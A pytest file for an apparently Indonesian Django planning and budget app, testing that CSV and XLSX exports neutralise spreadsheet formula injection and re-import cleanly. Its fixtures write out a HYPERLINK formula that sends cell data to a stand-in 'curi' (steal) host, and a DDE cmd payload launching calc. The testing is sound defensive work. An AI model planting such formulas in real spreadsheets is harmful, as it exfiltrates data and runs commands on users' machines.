"""Exports run nothing when opened (apps.core.ekspor, OWASP "CSV Injection"): a Renstra
indicator named `=HYPERLINK(…)` or a budget note `-2+3+cmd|' /C calc'!A0` was written as a
live formula into target.xlsx, target.csv, realisasi.xlsx and realisasi.csv. Every text cell is
now neutralised, numbers stay numbers, and the exported file imports back unchanged."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from perencanaan_uji import renstra_kec, user
from realisasi_uji import opd_kecamatan

from apps.anggaran.models import DPA, RealisasiAnggaran
from apps.core.ekspor import csv_dari, sel_csv, xlsx_dari
from apps.core.impor import importer, read_tabel
from apps.perencanaan.models import IndikatorKinerja

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://contoh.test/curi?d="&A1,"klik")'
CMD = "-2+3+cmd|' /C calc'!A0"


def _unduh(url):
    c = Client()
    c.force_login(user("operator.kecamatan"))
    resp = c.get(url)
    assert resp.status_code == 200
    return resp.content


def _sel_xlsx(isi: bytes, nilai):
    ws = load_workbook(io.BytesIO(isi)).active
    return [c for row in ws.iter_rows() for c in row if c.value == nilai]


def _baris_csv(isi: bytes):
    return list(csv.reader(io.StringIO(isi.decode("utf-8-sig")), delimiter=";"))


def _tabel(isi: bytes, format: str):
    f = io.BytesIO(isi)
    f.size = len(isi)
    return read_tabel(f, f"ekspor.{format}")


@pytest.fixture
def bermusuhan():
    renstra = renstra_kec(2018)
    ind = IndikatorKinerja.objects.filter(sasaran__tujuan__renstra=renstra).order_by("pk")
    ind.filter(pk=ind[0].pk).update(nama=HYPERLINK)
    ind.filter(pk=ind[1].pk).update(nama="@SUM(A1:A9)")
    dpa = DPA.objects.get(opd=opd_kecamatan(), tahun=2023)
    r = RealisasiAnggaran.objects.filter(rincian__dpa=dpa).order_by("pk").first()
    RealisasiAnggaran.objects.filter(pk=r.pk).update(keterangan=CMD)
    return renstra, dpa


def test_target_xlsx_holds_the_formula_as_text_and_imports_back(bermusuhan):
    renstra, _ = bermusuhan
    isi = _unduh(reverse("perencanaan:renstra_ekspor_target", args=[renstra.pk, "xlsx"]))
    for nilai in (HYPERLINK, "@SUM(A1:A9)"):
        (sel,) = _sel_xlsx(isi, nilai)
        assert sel.data_type == "s" and sel.quotePrefix  # text, shown as typed
    assert b"<f>" not in _xml_lembar(isi)  # no formula anywhere in the sheet
    hasil = importer("target_renstra").check(_tabel(isi, "xlsx"), opd=opd_kecamatan(), tahun=2023)
    assert {b.status for b in hasil.baris} == {"sama"}, [b.pesan for b in hasil.baris]


def test_target_csv_puts_an_apostrophe_before_the_formula_and_imports_back(bermusuhan):
    renstra, _ = bermusuhan
    isi = _unduh(reverse("perencanaan:renstra_ekspor_target", args=[renstra.pk, "csv"]))
    sel = [c for row in _baris_csv(isi) for c in row]
    assert "'" + HYPERLINK in sel and "'@SUM(A1:A9)" in sel and HYPERLINK not in sel
    hasil = importer("target_renstra").check(_tabel(isi, "csv"), opd=opd_kecamatan(), tahun=2023)
    assert {b.status for b in hasil.baris} == {"sama"}, [b.pesan for b in hasil.baris]


@pytest.mark.parametrize("format", ["xlsx", "csv"])
def test_realisasi_export_neutralises_the_note_keeps_numbers_and_imports_back(bermusuhan, format):
    _, dpa = bermusuhan
    isi = _unduh(reverse("anggaran:ekspor", args=[opd_kecamatan().pk, 2023, "realisasi", format]))
    if format == "xlsx":
        (sel,) = _sel_xlsx(isi, CMD)
        assert sel.data_type == "s" and sel.quotePrefix
        ws = load_workbook(io.BytesIO(isi)).active
        judul = [c.value for c in ws[1]]
        rp = judul.index("Realisasi (Rp)")
        assert all(row[rp].data_type == "n" for row in ws.iter_rows(min_row=2))
    else:
        baris = _baris_csv(isi)
        assert "'" + CMD in [c for row in baris for c in row]
    hasil = importer("realisasi").check(
        _tabel(isi, format), opd=opd_kecamatan(), tahun=2023, jenis_dpa=dpa.jenis
    )
    assert {b.status for b in hasil.baris} == {"sama"}, [
        b.pesan for b in hasil.baris if b.status != "sama"
    ]


def test_dashboard_and_recap_xlsx_neutralise_an_opd_name(client, login):
    from apps.core.models import OPD

    OPD.objects.filter(pk=opd_kecamatan().pk).update(nama=HYPERLINK, singkatan="+Kec")
    login("verifikator")
    for url in (
        reverse("laporan:dasbor_xlsx") + "?tahun=2023",
        reverse("laporan:rekap", args=[2023, "xlsx"]),
    ):
        isi = client.get(url).content
        sel = _sel_xlsx(isi, HYPERLINK)
        assert sel and all(s.data_type == "s" and s.quotePrefix for s in sel), url


@pytest.mark.parametrize(
    ("nilai", "csv_", "prefix"),
    [
        ("=1+1", "'=1+1", True),
        ("+62 351", "'+62 351", True),
        ("-2+3", "'-2+3", True),
        ("@A1", "'@A1", True),
        ("\t=1", "'\t=1", True),
        ("\r=1", "'\r=1", True),
        ("-1.234,5", "-1.234,5", False),
        ("-5", "-5", False),
        ("Kecamatan", "Kecamatan", False),
        (Decimal("-5"), Decimal("-5"), False),
        (12, 12, False),
    ],
)
def test_one_rule_for_every_cell(nilai, csv_, prefix):
    """Text that a spreadsheet could take for a formula is neutralised; a number, or the
    Indonesian text of one, stays as it is."""
    import tablib

    assert sel_csv(nilai) == csv_
    data = tablib.Dataset([nilai], headers=["Kolom"], title="Uji")
    ws = load_workbook(io.BytesIO(xlsx_dari(data))).active
    assert ws["A2"].value == nilai or ws["A2"].value == float(nilai)
    assert bool(ws["A2"].quotePrefix) == (prefix and isinstance(nilai, str))
    if isinstance(nilai, str):
        assert ws["A2"].data_type == "s"
    assert _baris_csv(csv_dari(data).encode())[1] == [str(csv_)]


def test_control_characters_become_a_visible_mark_in_an_xlsx_not_a_failed_export():
    import tablib

    data = tablib.Dataset(["Uraian\x01dengan\x1bkendali"], headers=["Kolom"])
    ws = load_workbook(io.BytesIO(xlsx_dari(data))).active
    assert ws["A2"].value == "Uraian\ufffddengan\ufffdkendali"


def _xml_lembar(isi: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(isi)) as z:
        return z.read("xl/worksheets/sheet1.xml")
